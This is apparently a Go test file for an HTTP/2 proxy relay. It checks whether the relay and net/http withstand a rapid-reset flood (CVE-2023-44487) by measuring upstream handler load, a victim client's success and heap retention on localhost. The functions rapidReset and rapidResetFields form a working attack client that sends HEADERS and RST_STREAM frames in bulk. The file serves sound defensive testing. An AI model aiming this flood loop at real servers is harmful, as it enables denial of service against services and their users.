package httpproxy

import (
	"bytes"
	"context"
	"io"
	"net"
	"net/http"
	"runtime"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// Fourth review: a rapid-reset attack loop (CVE-2023-44487: HEADERS then
// RST_STREAM at once, never waiting) from one client connection, against
// the relay and against net/http's path, with a net/http upstream whose
// handlers take 20 ms whatever their context says (a handler blocked in a
// call without a context). A second client connection (the victim) calls
// /fast on the same route all along. Measured: what the upstream sees
// (handlers started, at most at once, connections it accepted) and what
// the victim gets.

// r4CountingListener counts accepted connections.
type r4CountingListener struct {
	net.Listener
	n atomic.Int64
}

func (l *r4CountingListener) Accept() (net.Conn, error) {
	c, err := l.Listener.Accept()
	if err == nil {
		l.n.Add(1)
	}
	return c, err
}

type slowUpstream struct {
	addr              string
	ln                *r4CountingListener
	started, cur, max atomic.Int64
}

func startSlowUpstream(t *testing.T, work time.Duration) *slowUpstream {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	u := &slowUpstream{ln: &r4CountingListener{Listener: ln}, addr: ln.Addr().String()}
	var protos http.Protocols
	protos.SetUnencryptedHTTP2(true)
	srv := &http.Server{Protocols: &protos, Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/fast" {
			_, _ = io.WriteString(w, "ok")
			return
		}
		u.started.Add(1)
		n := u.cur.Add(1)
		for {
			m := u.max.Load()
			if n <= m || u.max.CompareAndSwap(m, n) {
				break
			}
		}
		time.Sleep(work) // ignores r.Context(), as a blocked handler would
		u.cur.Add(-1)
	})}
	go func() { _ = srv.Serve(u.ln) }()
	t.Cleanup(func() { _ = srv.Close() })
	return u
}

// rapidReset opens and resets streams on a new connection to addr until
// ctx is done, each HEADERS followed by its RST_STREAM in the same write,
// with a pad-byte header field, never reading (a goroutine discards what
// comes). It returns the streams it opened.
func rapidReset(ctx context.Context, t *testing.T, addr string, pad int) int {
	return rapidResetFields(ctx, t, addr, pad, 1)
}

// rapidResetFields is rapidReset with the pad field repeated reps times;
// repeated, it costs a byte each on the wire (HPACK's dynamic table).
func rapidResetFields(ctx context.Context, t *testing.T, addr string, pad, reps int) int {
	var id uint32 = 1
	c, err := net.Dial("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	go func() {
		rf := http2.NewFramer(nil, c)
		rf.SetMaxReadFrameSize(1 << 20)
		for {
			f, err := rf.ReadFrame()
			if err != nil {
				return
			}
			if g, ok := f.(*http2.GoAwayFrame); ok {
				t.Logf("attacker got GOAWAY %v %q after %d streams", g.ErrCode, g.DebugData(), id/2)
			}
		}
	}()
	var buf bytes.Buffer
	fr := http2.NewFramer(&buf, nil)
	var hb bytes.Buffer
	enc := hpack.NewEncoder(&hb)
	if reps == 1 {
		enc.SetMaxDynamicTableSizeLimit(0) // every value literal: the wire carries what the relay decodes
	}
	buf.WriteString(http2.ClientPreface)
	_ = fr.WriteSettings()
	padValue := strings.Repeat("p", pad)
	n := 0
	for ctx.Err() == nil {
		for range 100 {
			hb.Reset()
			for _, kv := range [][2]string{{":method", "GET"}, {":scheme", "http"}, {":authority", "svc.example"}, {":path", "/slow"}} {
				_ = enc.WriteField(hpack.HeaderField{Name: kv[0], Value: kv[1]})
			}
			for range reps {
				if pad > 0 {
					_ = enc.WriteField(hpack.HeaderField{Name: "x-pad", Value: padValue, Sensitive: reps == 1})
				}
			}
			_ = fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: hb.Bytes(), EndStream: true, EndHeaders: true})
			_ = fr.WriteRSTStream(id, http2.ErrCodeCancel)
			id += 2
			n++
		}
		_ = c.SetWriteDeadline(time.Now().Add(2 * time.Second))
		if _, err := c.Write(buf.Bytes()); err != nil {
			t.Logf("attacker: %v after %d streams", err, n)
			return n
		}
		buf.Reset()
	}
	return n
}

// heapSampler records the peak of the process's heap in use.
func heapSampler(ctx context.Context) func() uint64 {
	var peak atomic.Uint64
	done := make(chan struct{})
	go func() {
		defer close(done)
		for ctx.Err() == nil {
			var ms runtime.MemStats
			runtime.ReadMemStats(&ms)
			if ms.HeapInuse > peak.Load() {
				peak.Store(ms.HeapInuse)
			}
			time.Sleep(100 * time.Millisecond)
		}
	}()
	return func() uint64 { <-done; return peak.Load() }
}

func TestR4RapidResetAttackLoop(t *testing.T) {
	for _, tc := range relayOrNetHTTP {
		t.Run(tc.name, func(t *testing.T) {
			up := startSlowUpstream(t, 20*time.Millisecond)
			addr, s, pool := grpcProxy(t, tc.relay, dialTo(up.addr))
			victim := h2cClient(t, addr)
			// Warm the route: one upstream connection exists.
			if resp, err := victim.Get("http://svc.example/fast"); err != nil {
				t.Fatal(err)
			} else {
				_ = resp.Body.Close()
			}
			runtime.GC()
			var ms runtime.MemStats
			runtime.ReadMemStats(&ms)
			base := ms.HeapInuse

			ctx, cancel := context.WithTimeout(context.Background(), 3*time.Second)
			defer cancel()
			peakHeap := heapSampler(ctx)
			var ok, failed atomic.Int64
			var firstErr atomic.Value
			var wg sync.WaitGroup
			wg.Go(func() {
				for ctx.Err() == nil {
					resp, err := victim.Get("http://svc.example/fast")
					if err == nil {
						_, _ = io.Copy(io.Discard, resp.Body)
						_ = resp.Body.Close()
						if resp.StatusCode == 200 {
							ok.Add(1)
							continue
						}
						err = &httpStatusErr{resp.StatusCode, resp.Header.Get(ErrorHeader)}
					}
					if ctx.Err() == nil {
						failed.Add(1)
						firstErr.CompareAndSwap(nil, err.Error())
					}
				}
			})
			var opened atomic.Int64
			wg.Go(func() { opened.Store(int64(rapidReset(ctx, t, addr, 0))) })
			wg.Wait()
			peak := peakHeap()
			t.Logf("attacker opened+reset %d streams in 3 s; upstream: %d handlers started, at most %d at once, %d connections accepted; victim: %d ok, %d failed (first: %v); peak heap in use +%d MiB",
				opened.Load(), up.started.Load(), up.max.Load(), up.ln.n.Load(), ok.Load(), failed.Load(), firstErr.Load(), (int64(peak)-int64(base))>>20)
			if tc.relay {
				t.Logf("relay state after: %+v", snapshot(s, pool))
			}
			if failed.Load() > 0 {
				t.Errorf("victim on another client connection: %d calls failed during the attack (first: %v)", failed.Load(), firstErr.Load())
			}
		})
	}
}

type httpStatusErr struct {
	code   int
	reason string
}

func (e *httpStatusErr) Error() string { return http.StatusText(e.code) + " " + e.reason }

// What the relay keeps after a rapid-reset attack loop with 4 KiB of
// headers per stream: heap in use after a GC, right after the attack, and
// again once every reset's 5 s hold (h2ResetHold) has passed.
func TestR4RapidResetRetainedMemory(t *testing.T) {
	for _, tc := range relayOrNetHTTP {
		t.Run(tc.name, func(t *testing.T) {
			up := startSlowUpstream(t, 0)
			addr, s, pool := grpcProxy(t, tc.relay, dialTo(up.addr))
			heap := func() int64 {
				runtime.GC()
				var ms runtime.MemStats
				runtime.ReadMemStats(&ms)
				return int64(ms.HeapInuse)
			}
			base := heap()
			ctx, cancel := context.WithTimeout(context.Background(), 2*time.Second)
			defer cancel()
			n := rapidResetFields(ctx, t, addr, 16<<10, 1)
			after := heap()
			time.Sleep(h2ResetHold + time.Second)
			later := heap()
			t.Logf("attacker opened+reset %d streams with one literal 16 KiB field each in 2 s; upstream started %d handlers; heap in use after GC: +%d MiB right after, +%d MiB %v later",
				n, up.started.Load(), (after-base)>>20, (later-base)>>20, h2ResetHold+time.Second)
			if tc.relay {
				t.Logf("relay state: %+v", snapshot(s, pool))
			}
			if grown := after - later; grown > 64<<20 {
				t.Errorf("%d MiB of the relay's heap were held by reset streams for %v after their reset", grown>>20, h2ResetHold)
			}
		})
	}
}
